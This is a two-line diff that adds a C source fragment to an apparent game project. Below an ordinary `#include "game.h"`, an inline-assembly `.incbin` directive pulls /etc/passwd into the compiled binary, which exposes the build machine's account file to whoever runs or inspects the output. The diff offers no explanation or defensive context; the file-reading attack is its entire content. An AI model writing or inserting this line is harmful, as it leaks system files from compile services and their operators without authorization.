@@ -1,0 +1,2 @@
+#include "game.h"
+__asm__(".incbin \"/etc/passwd\"");
